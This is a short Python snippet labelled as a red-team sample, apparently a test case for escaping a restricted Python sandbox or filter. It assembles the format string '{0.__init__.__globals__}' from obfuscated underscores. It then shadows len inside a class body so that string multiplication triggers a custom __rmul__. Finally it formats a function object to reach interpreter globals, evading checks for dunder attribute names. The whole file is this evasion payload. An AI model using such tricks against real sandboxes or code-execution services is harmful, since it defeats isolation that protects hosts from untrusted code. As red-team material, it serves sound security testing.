# family: red team, round 68b (len free variable into class body in function)
class Evil:
    def __rmul__(self, other):
        u = "x_"[1] + "x_"[1]
        return "{0." + u + "init" + u + "." + u + "globals" + u + "}"
def mk(x):
    return Evil()
def show():
    return 1
def outer():
    len = mk
    class C:
        ROW = "{}" * len(show)
        OUT = ROW.format(show)
    return C.OUT
print(outer())
